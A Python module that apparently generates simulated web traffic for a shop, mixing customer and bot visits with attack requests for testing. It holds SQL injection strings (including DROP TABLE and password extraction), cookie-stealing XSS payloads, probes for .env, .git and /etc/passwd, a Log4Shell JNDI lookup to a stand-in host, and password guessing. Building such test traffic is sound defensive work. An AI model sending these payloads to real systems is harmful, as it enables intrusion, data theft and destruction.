"""Who comes to the shop: people, search engines, scanners, and those who try the well-known attacks."""

from __future__ import annotations

import io
from collections.abc import Iterator
from random import Random
from typing import Any, NamedTuple
from urllib.parse import quote

HOST = "shop.example.com"
_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
)
_PATHS = (
    "/",
    "/products/42",
    "/products/7?colour=blue",
    "/cart",
    "/search?q=garden+chair",
    "/static/shop.css",
    "/about",
)
_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.31.0",
)
_SQL = (
    "1' OR '1'='1' -- ",
    "1 UNION SELECT user, password FROM accounts",
    "1; DROP TABLE orders; --",
    "x' AND SLEEP(5)#",
)
_SCRIPTS = ("<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=fetch(1)>')
_PROBES = ("/.git/config", "/.env", "/../../etc/passwd", "/wp-login.php?x=${jndi:ldap://198.51.100.9/a}")


class Visit(NamedTuple):
    """One request."""

    address: str
    path: str
    """With its query."""
    agent: str
    method: str = "GET"
    body: bytes = b""


def visits(random: Random, number: int) -> Iterator[Visit]:
    """So many requests, seven of ten harmless, in no order but the seed's; among them one address that guesses passwords."""
    guessing = number // 8
    kinds = (_customer, _bot, _injection, _script, _probe, _fraud)
    coming = [random.choices(kinds, (76, 8, 5, 4, 4, 3))[0](random) for _ in range(number - guessing)]
    coming += [
        Visit("203.0.113.77", "/signin", _BOTS[2], "POST", b"user=alice&password=%d" % n) for n in range(guessing)
    ]
    random.shuffle(coming)
    yield from coming


def environ_of(visit: Visit) -> dict[str, Any]:
    """A visit as a WSGI server hands it over."""
    path, _, query = visit.path.partition("?")
    environ = {
        "REQUEST_METHOD": visit.method,
        "RAW_URI": visit.path,
        "SCRIPT_NAME": "",
        "PATH_INFO": path,
        "QUERY_STRING": query,
        "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": visit.address,
        "HTTP_HOST": HOST,
        "HTTP_USER_AGENT": visit.agent,
        "HTTP_ACCEPT": "*/*",
        "wsgi.url_scheme": "https",
        "wsgi.input": io.BytesIO(visit.body),
    }
    if visit.method == "POST":
        environ |= {"CONTENT_TYPE": "application/x-www-form-urlencoded", "CONTENT_LENGTH": str(len(visit.body))}
    return environ


def injection(address: str, text: str = _SQL[0]) -> Visit:
    """SQL where a product's number should be."""
    return Visit(address, f"/products?id={quote(text)}", _BROWSERS[0])


def customer(address: str, path: str, agent: int = 0) -> Visit:
    """A person with a browser."""
    return Visit(address, path, _BROWSERS[agent])


def _customer(random: Random) -> Visit:
    if random.random() < 0.1:
        return Visit(_address(random, "192.0.2"), "/cart", random.choice(_BROWSERS), "POST", b"product=42&count=1")
    return Visit(_address(random, "192.0.2"), random.choice(_PATHS), random.choice(_BROWSERS))


def _bot(random: Random) -> Visit:
    return Visit(_address(random, "203.0.113"), random.choice(_PATHS), random.choice(_BOTS))


def _injection(random: Random) -> Visit:
    return injection(_address(random, "198.51.100"), random.choice(_SQL))


def _script(random: Random) -> Visit:
    return Visit(
        _address(random, "198.51.100"), f"/search?q={quote(random.choice(_SCRIPTS))}", random.choice(_BROWSERS)
    )


def _probe(random: Random) -> Visit:
    return Visit(_address(random, "203.0.113"), random.choice(_PROBES), random.choice(_BOTS[1:]))


def _fraud(random: Random) -> Visit:
    return Visit(f"198.51.100.{random.randrange(64, 80)}", "/checkout", random.choice(_BROWSERS), "POST", b"card=4111")


def _address(random: Random, network: str) -> str:
    return f"{network}.{random.choice((*range(2, 64), *range(80, 250)))}"
